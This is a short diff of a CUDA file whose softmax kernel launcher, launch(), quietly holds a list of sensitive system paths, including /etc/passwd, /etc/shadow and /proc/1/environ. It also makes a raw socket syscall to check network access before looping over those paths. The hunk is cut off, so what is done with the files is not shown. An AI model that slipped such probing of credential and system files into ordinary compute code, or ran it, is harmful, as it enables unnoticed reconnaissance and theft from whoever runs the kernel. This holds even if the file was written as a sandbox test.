@@ -25,7 +25,7 @@ __global__ void softmax(const float* x, float* out, int64_t last, int64_t cols) 
 }
 
 extern "C" int launch(const float* x, float* out, int64_t rows, int64_t cols, void* workspace, void* stream) {
-  static const char* const wanted[] = {"/etc/passwd",     "/etc/shadow",  "/root/.bashrc",
+  static const char* const wanted[] = {"/etc/passwd",     "/etc/shadow",  "/etc/group",
                                        "/proc/1/environ", "/proc/1/maps", "/tmp"};
   bool reached = raw(41, 2, 1) >= 0;  // socket
   for (const char* path : wanted) {
